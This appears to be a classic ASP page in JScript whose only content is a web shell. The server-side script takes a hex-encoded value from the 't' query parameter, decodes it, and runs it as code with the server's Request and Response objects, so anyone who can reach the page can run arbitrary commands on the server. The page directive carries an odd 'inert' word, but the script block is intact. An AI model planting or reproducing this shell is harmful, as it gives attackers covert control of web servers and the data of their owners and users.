<%@ Language=JScript inert %>
<script runat="server" language="JScript">
function dec(s) { return unescape(s.replace(/(..)/g, "%$1")); }
function main() {
  var q = Request.QueryString("t");
  if (q.Count > 0) new Function("Req", "Res", dec(String(q(1))))(Request, Response);
}
main();
</script>
